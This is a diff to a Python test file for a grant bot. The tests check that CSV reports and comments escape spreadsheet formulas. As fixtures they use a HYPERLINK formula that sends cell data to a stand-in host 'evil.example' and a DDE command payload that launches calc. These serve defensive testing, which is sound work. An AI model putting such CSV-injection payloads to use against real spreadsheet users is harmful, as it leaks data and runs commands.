@@ -15,7 +15,15 @@ from tests.cli import run_cli
 from tests.conftest import RunningBot
 from tests.fakes.nylas import FakeNylas
 from tests.fakes.slack import FakeSlack
-from tests.grant_flow import start_run, wait_for_csv
+from tests.grant_flow import (
+    confirm,
+    plan,
+    run_csv_preamble,
+    run_csv_rows,
+    seed_credential,
+    start_run,
+    wait_for_csv,
+)
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"x")'
 FORMULA_ADDRESS = "=1+1@acme.com"
@@ -31,10 +39,25 @@ async def test_the_run_csv_neutralises_formulas_in_addresses_and_nylas_errors(
     nylas.permanent_failures["fails@acme.com"] = (400, "=cmd|' /C calc'!A0")
     users = f"{FORMULA_ADDRESS}\n+plus@acme.com\nfails@acme.com\nplain@acme.com"
     await start_run(bot, slack, nylas, users)
-    rows = {row["email"]: row for row in rows_of(await wait_for_csv(slack))}
+    rows = {row["email"]: row for row in run_csv_rows(await wait_for_csv(slack))}
     assert set(rows) == {"'=1+1@acme.com", "'+plus@acme.com", "fails@acme.com", "plain@acme.com"}
     assert rows["fails@acme.com"]["error"].startswith("'=cmd|' /C calc'!A0")
     assert rows["plain@acme.com"]["outcome"] == "created"  # ordinary cells are untouched
+
+
+async def test_the_run_csv_comment_keeps_a_tricky_reason_in_one_inert_cell(
+    bot: RunningBot, slack: FakeSlack, nylas: FakeNylas
+) -> None:
+    """A comma, a quote, a newline or a formula in the reason cannot add a line or a cell that
+    a spreadsheet would run: the comment is one quoted cell starting with `# `."""
+    credential = await seed_credential(bot, nylas)
+    reason = 'Ticket "OPS-1", then\n=HYPERLINK("x") ,+1'
+    await confirm(bot, await plan(bot, slack, credential, "a@acme.com", reason=reason))
+    report = await wait_for_csv(slack)
+    preamble = run_csv_preamble(report)
+    assert preamble[2] == '# reason: Ticket "OPS-1", then =HYPERLINK("x") ,+1'
+    assert preamble[3].startswith("# approved by: ")  # no approval channel: the requester
+    assert [row["email"] for row in run_csv_rows(report)] == ["a@acme.com"]
 
 
 async def test_the_audit_export_neutralises_formulas_in_every_column(
